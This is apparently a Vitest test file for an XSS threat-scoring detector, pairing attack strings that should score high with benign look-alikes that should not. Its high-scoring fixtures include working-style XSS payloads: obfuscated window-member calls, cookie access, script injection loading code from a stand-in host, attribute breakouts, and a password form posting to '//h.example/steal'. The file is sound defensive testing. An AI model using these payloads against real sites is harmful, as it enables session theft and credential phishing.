// biome-ignore-all lint/suspicious/noTemplateCurlyInString: payloads are not templates
import { describe, expect, it } from 'vitest'
import { xss } from '../../plugins/threat-score/xss.ts'
import { scoreOf } from './score-of.ts'

describe('members of the window that are worked out', () => {
  it.each([
    "window['location']['href']='//h.example/a'",
    'parent[Object.keys(parent)[12]](document.domain)',
    'top[17795081..toString(36)](1)',
    'self[Object.getOwnPropertyNames(self).filter(x=>/^al..t$/.test(x))[0]](1)',
    "document['cookie']",
    'window?.confirm?.(1)',
  ])('%s', (value) => {
    expect(scoreOf(xss, value)).toBeGreaterThanOrEqual(80)
  })

  it.each([
    'window[callback](data)',
    'self[index](1)',
    "config['location']['href'] = 'http://h.example/'",
    'items[Object.keys(items)[0]]',
    "this['name'] = value",
    'document["title"]',
  ])('leaves %s', (value) => {
    expect(scoreOf(xss, value)).toBeLessThan(60)
  })
})

describe('code that spells its words', () => {
  it.each([
    "あ='',い=!あ+あ,う=!い+あ,え=あ+{},お=い[あ++],い[け+=え[あ]+(い.う+え)[あ]+う[く]+お+か+い[き]+け+お+え[あ]+か][け](う[あ]+う[き]+い[く]+か)()",
    "а='',б=!а+а,в=!б+а,г=а+{},б[и+=г[а]+(б.в+г)[а]+в[з]+д+е+б[ж]+и+д+г[а]+е][и](в[а]+в[ж]+б[з])()",
  ])('%s', (value) => {
    expect(scoreOf(xss, value)).toBeGreaterThanOrEqual(80)
  })

  it.each([
    '日本[東京]+大阪[梅田]+名古屋[栄]+福岡[博多]+札幌[駅]',
    'x[0]+x[1]+x[2]+x[3]+x[4] != y',
    '[0-9]+[a-z]+[A-Z]+[_]+ = ok!',
  ])('leaves %s', (value) => {
    expect(scoreOf(xss, value)).toBe(0)
  })
})

describe('elements made by a script', () => {
  it.each([
    "x=document.createElement('script');x.src='//h.example/a.js';document.body.appendChild(x)",
    "with(document)body.appendChild(createElement('script')).src='//h.example'",
    "d=document;s=d.createElement('script');s.text='confirm(1)';d.body.append(s)",
    'document.body.appendChild(document.createElement`iframe`).srcdoc=name',
    "import('//h.example/a.js')",
    "let s=document.createElement('script');s.setAttribute('src','//h.example/x');document.body.append(s)",
    "$.getScript('//h.example/a.js')",
    "x={valueOf:confirm};x+''",
    "Object.prototype.toString=confirm;''+{}",
  ])('%s', (value) => {
    expect(scoreOf(xss, value)).toBeGreaterThanOrEqual(80)
  })

  it.each([
    "el = document.createElement('div'); el.className = 'card'; document.body.appendChild(el);",
    "(function(){var s=document.createElement('script');s.async=true;s.src='https://stats.example/a.js';document.head.appendChild(s);})();",
    "import('./module.js')",
    "fetch('/api/items').then(r=>r.json())",
  ])('does not refuse %s', (value) => {
    expect(scoreOf(xss, value)).toBeLessThan(80)
  })
})

describe('attributes behind a quote', () => {
  it.each([
    '\\"autofocus=confirm(1)//',
    '" @click=confirm(1) x="',
    "' x-init='confirm(1)' y='",
    '<img/src=x/onerror=yyy',
    "' onfocus=go autofocus '",
    '" type=image src=x onerror=go',
    '<z 1="2"onfoo=bar>',
    '<x is=script src=//h.example>',
    '<** style=y:expression\\28confirm(2)\\29>',
    '<?xml-stylesheet type="text/xsl" href="#"?><y/>',
  ])('%s', (value) => {
    expect(scoreOf(xss, value)).toBeGreaterThanOrEqual(80)
  })

  it.each([
    'title="Confirm (optional)" placeholder="alert"',
    'msg = "a" prompt="Enter your name:"',
    '<g id="x" only="y">',
  ])('leaves %s', (value) => {
    expect(scoreOf(xss, value)).toBeLessThan(40)
  })
})

describe('a phrase with the name of an event', () => {
  it.each([
    '"onload=f"',
    '"onclick=save" in the docs',
    '"Button" with onclick=handler',
  ])('is not refused: %s', (value) => {
    expect(scoreOf(xss, value)).toBeLessThan(80)
  })
})

describe('content of other hosts in an address', () => {
  const injections = [
    '<iframe src="https://h.example/login" width=800 height=600></iframe>',
    '<form action=//h.example/steal><input name=password></form>',
    '<bgsound src=//h.example/x.mid>',
    '<style>*{background:url(//h.example/a)}</style>',
  ]
  it.each(injections)('%s', (value) => {
    expect(scoreOf(xss, value)).toBeGreaterThanOrEqual(80)
  })

  it.each(injections)('is no more than marked in a document: %s', (value) => {
    expect(scoreOf(xss, value, { where: 'body.json./html' })).toBeLessThan(80)
  })

  it.each([
    '<iframe width="560" height="315" src="https://video.example/embed/abc" title="Video player"></iframe>',
    '<form action="/search"><input name="q"></form>',
    '<img src="https://img.example/a.png">',
  ])('does not refuse %s', (value) => {
    expect(scoreOf(xss, value)).toBeLessThan(80)
  })
})

describe('code shown in prose', () => {
  it.each([
    'Our starter uses `<script setup>` in all components, see the guide for the reasons behind that.',
    'The payload was `<script src=x>` and it ran in the preview of our comment form.',
  ])('%s', (value) => {
    expect(scoreOf(xss, value)).toBeLessThan(60)
  })
})

describe('values that programs name themselves', () => {
  it.each([
    'location=this.city',
    'location = text',
    "this.confirm('Delete?')",
    "img.src='//img.example/a.png'",
    'user?.location?.city',
    '{{ a }} f("x")() {{ b }}',
  ])('leaves %s', (value) => {
    expect(scoreOf(xss, value)).toBeLessThan(40)
  })
})

describe('a probe for what comes through', () => {
  it.each(["'';!--\"<abc>=&{()}", ';!--"<y>=&{()}"'])('%s', (value) => {
    expect(scoreOf(xss, value)).toBeGreaterThanOrEqual(80)
  })
})
